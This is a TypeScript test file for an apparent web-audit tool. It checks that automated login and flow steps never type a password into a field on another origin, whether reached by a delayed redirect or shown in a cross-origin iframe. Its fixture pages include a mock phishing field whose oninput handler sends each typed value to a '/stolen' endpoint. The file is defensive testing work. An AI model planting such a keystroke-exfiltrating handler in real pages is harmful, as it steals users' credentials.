import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBrowserProvider, resolveChromiumPath, type BrowserProvider } from '../../../../src/audit/session/browser-provider.ts';
import { runFlow } from '../../../../src/audit/session/flow-runner.ts';
import { openTab } from '../../../../src/audit/session/page-session.ts';
import { createTargetPolicy } from '../../../../src/security/target-policy.ts';
import { html, startStaticServer, type StaticServer } from '../../../support/static-server.ts';

// A step of a login or flow types into the element it finds only where that element lives on the
// site, checked at the moment of acting: a delayed redirect to another site that has a field of the
// same name gets nothing typed, and neither does a frame of another origin inside the site's page.

const SECRET = 'correct-horse-battery-staple';
const doc = (title: string, body: string) => `<!doctype html><html lang="en"><head><title>${title}</title></head><body>${body}</body></html>`;

describe('login and flow steps act only on the site', () => {
  let site: StaticServer;
  let foreign: StaticServer;
  let browser: BrowserProvider;

  beforeAll(async () => {
    foreign = await startStaticServer({}, { host: '127.0.0.3' });
    // The foreign page reports whatever is typed into its field (a phishing page would).
    foreign.route('/login', html(doc('Foreign', `<input id="password" oninput="new Image().src='/stolen?v='+encodeURIComponent(this.value)">`)));
    foreign.route('/frame', html(doc('Frame', `<input id="password" oninput="new Image().src='/stolen?v='+encodeURIComponent(this.value)">`)));
    site = await startStaticServer();
    // The site's page sends the browser to the foreign page a moment after a click, while the next step waits for its field.
    site.route('/slow-redirect', html(doc('Site', `<button id="next" onclick="setTimeout(() => { location.href = '${foreign.origin}/login'; }, 300)">Next</button>`)));
    // The site's page shows the foreign login form in a frame: the field the step names is inside it.
    site.route('/framed', html(doc('Site', `<iframe src="${foreign.origin}/frame" title="Sign in"></iframe>`)));
    browser = createBrowserProvider({ executablePath: resolveChromiumPath(process.env.CHROMIUM_PATH) });
  });
  afterAll(async () => {
    await browser?.close();
    await site?.close();
    await foreign?.close();
  });

  const policy = () => createTargetPolicy({ allowPrivate: true });
  const stolen = () => foreign.hits.filter((h) => h.startsWith('/stolen'));

  it('a flow step whose field turns up on another site after a delayed redirect types nothing there', async () => {
    const tab = await openTab({ browser: await browser.get(), policy: policy(), pageLoadTimeoutMs: 8_000 });
    try {
      const loaded = await tab.load(`${site.origin}/slow-redirect`);
      if (loaded.kind !== 'loaded') throw new Error(loaded.error.message);
      const steps = [
        { action: 'goto' as const, url: `${site.origin}/slow-redirect` },
        { action: 'click' as const, selector: '#next' },
        { action: 'fill' as const, selector: '#password', value: SECRET },
      ];
      const ran = await runFlow(loaded.page, { name: 'redirected', steps, stepTimeoutMs: 3000 }, { host: '127.0.0.1', pageLoadTimeoutMs: 8_000 });
      expect(ran).toMatchObject({ kind: 'page-error', error: { code: 'flow_failed', message: expect.stringContaining(`step 3 (fill #password) was not run: the element is in a page of ${foreign.origin}`) } });
      await new Promise((r) => setTimeout(r, 300));
      expect(stolen()).toEqual([]);
      expect(await loaded.page.inputValue('#password').catch(() => '')).toBe('');
    } finally {
      await tab.close();
    }
  }, 60_000);

  it("a login step never types a password into a frame of another origin, or after the page left the site's origin", async () => {
    const cases = [
      { url: `${site.origin}/framed`, steps: [{ action: 'fill' as const, selector: 'iframe >> internal:control=enter-frame >> #password', value: SECRET }] },
      { url: `${site.origin}/slow-redirect`, steps: [{ action: 'click' as const, selector: '#next' }, { action: 'fill' as const, selector: '#password', value: SECRET }] },
    ];
    for (const c of cases) {
      const login = { ...c, loggedIn: { selector: '#account' }, stepTimeoutMs: 3000 };
      const tab = await openTab({ browser: await browser.get(), policy: policy(), pageLoadTimeoutMs: 8_000, auth: { origin: site.origin, setup: { login } } });
      try {
        const out = await tab.login();
        expect(out).toMatchObject({ ok: false, reason: expect.stringContaining(`was not run: the element is in a page of ${foreign.origin}`) });
      } finally {
        await tab.close();
      }
    }
    await new Promise((r) => setTimeout(r, 300));
    expect(stolen()).toEqual([]);
  }, 60_000);
});
